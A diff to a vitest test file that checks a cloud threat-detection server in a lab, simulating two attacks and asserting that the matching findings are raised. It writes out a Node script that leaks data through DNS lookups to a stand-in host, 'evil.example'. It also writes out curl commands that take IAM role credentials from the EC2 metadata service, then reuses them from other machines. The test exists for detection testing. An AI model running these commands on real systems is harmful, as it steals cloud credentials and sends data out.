@@ -1,11 +1,12 @@
-/** Attacks in a lab, whose flow records are brought to a server: each is found within a minute of its record. */
+/** Attacks in a lab, whose flow records, queries and API calls reach a server: each is found within a minute. */
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import * as gd from '@aws-sdk/client-guardduty'
-import { describe, expect, test, vi } from 'vitest'
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
 import type { Network } from '../../src/engines/network/network.ts'
 import { merlonAlone, startAlone, temporaryFolder } from '../process.ts'
 import { isLabPossible, lab, office } from './lab.fixture.ts'
+import { ROLE, servedLab } from './served-lab.fixture.ts'
 
 /** The account of the lab's descriptions. */
 const LAB_ACCOUNT = '111122223333'
@@ -74,5 +75,50 @@ describe.skipIf(!isLabPossible)('In the lab', () => {
     } finally {
       await server.stop('SIGKILL')
     }
+  })
+})
+
+/** What a machine gets for its role, as variables of the AWS CLI. */
+const CREDENTIALS = `
+  U=http://169.254.169.254/latest; T=$(curl -sf -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $U/api/token)
+  curl -sf -H "X-aws-ec2-metadata-token: $T" $U/meta-data/iam/security-credentials/${ROLE}`
+/** By the resolver of the machine's own configuration: names with 40 characters of data each. */
+const LOOK_UP = `
+  const { createHash } = require('node:crypto')
+  const { resolveTxt } = require('node:dns').promises
+  const name = (at) => createHash('sha1').update(String(at)).digest('hex') + '.evil.example'
+  const run = async () => { for (let at = 0; at < 60; at++) await resolveTxt(name(at)).catch((error) => { if (error.code !== 'ENOTFOUND') throw error }) }
+  run()
+`
+
+describe.skipIf(!isLabPossible)('In a lab with a server', () => {
+  let it: Awaited<ReturnType<typeof servedLab>>
+  beforeAll(async () => {
+    it = await servedLab()
+  })
+  afterAll(() => it?.server.stop('SIGKILL'))
+
+  test('data in the names of queries is found, with its machine', async () => {
+    const { status, stderr } = await it.at('web', `exec '${process.execPath}' -e "${LOOK_UP.replaceAll('"', '\\"')}"`)
+    expect([status, stderr]).toEqual([0, ''])
+
+    const { Resource } = await it.found('Trojan:EC2/DNSDataExfiltration')
+    expect(Resource?.InstanceDetails?.InstanceId).toBe(it.web.InstanceId)
+  })
+
+  test('credentials of a machine are found where they are used elsewhere: on the internet, and on another machine', async () => {
+    const type = 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration'
+    const { stdout } = await it.at('web', `${CREDENTIALS}; aws sts get-caller-identity >/dev/null`)
+    const { AccessKeyId, SecretAccessKey, Token } = JSON.parse(stdout)
+    const stolen = `AWS_ACCESS_KEY_ID=${AccessKeyId} AWS_SECRET_ACCESS_KEY=${SecretAccessKey} AWS_SESSION_TOKEN=${Token}`
+    const call = `${stolen} aws sts get-caller-identity --query Arn --output text`
+
+    expect((await it.at('internet', call)).stdout).toContain(it.web.InstanceId)
+    const outside = await it.found(`${type}.OutsideAWS`)
+    expect(outside.Service?.Action?.AwsApiCallAction?.RemoteIpDetails?.IpAddressV4).toBe('192.0.2.1')
+    expect(outside.Service?.Count).toBe(1)
+    expect((await it.at('db', call)).stdout).toContain(it.web.InstanceId)
+    const inside = await it.found(`${type}.InsideAWS`)
+    expect(inside.Service?.Action?.AwsApiCallAction?.RemoteIpDetails?.IpAddressV4).toBe(it.publicAddress(it.db))
   })
 })
